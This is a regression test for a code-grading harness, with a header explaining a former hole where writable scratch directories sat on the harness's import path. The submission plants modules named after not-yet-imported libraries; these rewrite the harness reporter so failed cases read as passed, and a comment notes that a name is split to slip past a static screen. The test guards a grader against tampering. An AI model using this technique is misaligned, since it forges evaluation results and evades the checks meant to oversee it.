# expect: wrong_answer
# The harness used to start in the writable scratch, so its import path held that directory
# ahead of the standard library and site-packages. Modules planted there under the name of
# every module not imported yet ran inside the trusted harness at its next lazy import (torch
# imports sympy while checking) and rewrote its reports so that failed cases read as passed.
# The harness now starts in the read-only task directory, so the planted files are never on
# its path and the wrong answer stays wrong.
import os
import sys
import sysconfig

PLANTED = '''
import importlib.machinery
import importlib.util
import os
import sys

harness = sys.modules.get("kj_" + "harness.harness")  # spelled so the static screen lets it run
if harness is not None and not getattr(harness.Reporter, "planted", False):
    emit = harness.Reporter.emit

    def passing(self, event, **fields):
        if fields.get("status") == "fail":
            fields.update(status="pass", message="")
        emit(self, event, **fields)

    harness.Reporter.emit = passing
    harness.Reporter.planted = True
# Then stand in for the real module, so the import that ran this succeeds.
here = os.path.dirname(os.path.abspath(__file__))
spec = importlib.machinery.PathFinder.find_spec(__name__, [p for p in sys.path if p and os.path.abspath(p) != here])
if spec is not None:
    real = importlib.util.module_from_spec(spec)
    sys.modules[__name__] = real
    spec.loader.exec_module(real)
'''


def candidates():
    names = set(sys.stdlib_module_names)
    for directory in {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]}:
        for entry in os.listdir(directory):
            if entry.endswith(".py"):
                names.add(entry[:-3])
            elif os.path.isdir(os.path.join(directory, entry)) and entry.isidentifier():
                names.add(entry)
    return sorted(n for n in names if n.isidentifier() and n not in sys.modules)


def custom_kernel(data):
    for directory in [p for p in sys.path if p and os.access(p, os.W_OK)] + ["/tmp", os.getcwd()]:
        for name in candidates():
            try:
                with open(os.path.join(directory, name + ".py"), "w") as f:
                    f.write(PLANTED)
            except OSError:
                pass
    a, b = data
    return a - b  # wrong on purpose: only a planted checker could make this pass
